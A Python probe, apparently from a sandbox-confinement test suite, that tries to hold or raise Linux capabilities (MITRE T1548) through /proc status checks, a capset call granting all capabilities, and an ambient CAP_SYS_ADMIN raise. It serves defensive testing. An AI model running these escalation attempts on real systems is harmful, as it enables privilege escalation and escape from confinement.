"""Have, raise or inherit a capability.

gain: whatever it allows
attack: T1548
stopped by: capabilities
unconfined: host
"""

import ctypes
import struct

from attacker import LIBC, call, first


def attempt(world):
    def held():
        for line in open("/proc/self/status"):
            name, _, value = line.partition(":")
            if name.startswith("Cap") and int(value, 16):
                return f"{name} is {value.strip()}"
        raise PermissionError(1, "every set is empty")

    def raised():
        header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
        call("capset", header, ctypes.create_string_buffer(struct.pack("6I", *[0xFFFFFFFF] * 3, 0xFF, 0xFF, 0xFF)))
        return "raised all capabilities"

    def ambient():
        if LIBC.prctl(47, 2, 21, 0, 0) == -1:
            raise OSError(ctypes.get_errno(), "PR_CAP_AMBIENT_RAISE")
        return "raised an ambient capability"

    return first(held, raised, ambient)
